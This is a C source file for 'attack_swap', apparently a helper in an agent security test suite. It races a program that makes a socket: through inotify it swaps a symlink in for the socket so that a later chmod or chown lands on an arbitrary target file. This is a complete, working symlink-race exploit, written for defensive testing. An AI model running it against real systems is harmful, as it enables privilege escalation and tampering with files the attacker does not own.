/* SPDX-License-Identifier: MIT */
/*
 * attack_swap DIR NAME TARGET: the symlink racer of test_agent_attacks, run as another user.
 *
 * Watches DIR (writable by that user, like a pod's emptyDir) with inotify and, whenever a socket
 * appears at DIR/NAME, renames a symlink to TARGET over it at once: a program that creates the
 * socket and then changes it by path (chmod, chown) changes TARGET instead. The symlink is made
 * ahead of time under a temporary name so the swap is a single rename(2). Prints "ready" once the
 * watch is in place, then "swapped <n>" after each swap; runs until killed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#define SPARE ".attack-swap"

static int prepare(const char *target)
{
    (void)unlink(SPARE);
    if (symlink(target, SPARE) != 0) {
        fprintf(stderr, "attack_swap: symlink: %s\n", strerror(errno));
        return -1;
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: attack_swap DIR NAME TARGET\n");
        return 2;
    }
    const char *dir = argv[1];
    const char *name = argv[2];
    const char *target = argv[3];
    if (chdir(dir) != 0) {
        fprintf(stderr, "attack_swap: chdir %s: %s\n", dir, strerror(errno));
        return 1;
    }
    int in = inotify_init1(IN_CLOEXEC);
    if (in < 0 || inotify_add_watch(in, ".", IN_CREATE | IN_MOVED_TO) < 0) {
        fprintf(stderr, "attack_swap: inotify: %s\n", strerror(errno));
        return 1;
    }
    if (prepare(target) != 0) {
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    unsigned long swaps = 0;
    char buf[64 * (sizeof(struct inotify_event) + NAME_MAX + 1)]
        __attribute__((aligned(__alignof__(struct inotify_event))));
    for (;;) {
        ssize_t n = read(in, buf, sizeof(buf));
        if (n <= 0) {
            if (n < 0 && errno == EINTR) {
                continue;
            }
            return 1;
        }
        for (char *p = buf; p < buf + n;) {
            const struct inotify_event *ev = (const struct inotify_event *)(void *)p;
            p += sizeof(*ev) + ev->len;
            if (ev->len == 0 || strcmp(ev->name, name) != 0) {
                continue;
            }
            struct stat st;
            if (lstat(name, &st) != 0 || !S_ISSOCK(st.st_mode)) {
                continue; /* our own symlink arriving, or already gone */
            }
            if (rename(SPARE, name) == 0) {
                swaps++;
                printf("swapped %lu\n", swaps);
                fflush(stdout);
                if (prepare(target) != 0) {
                    return 1;
                }
            }
        }
    }
}
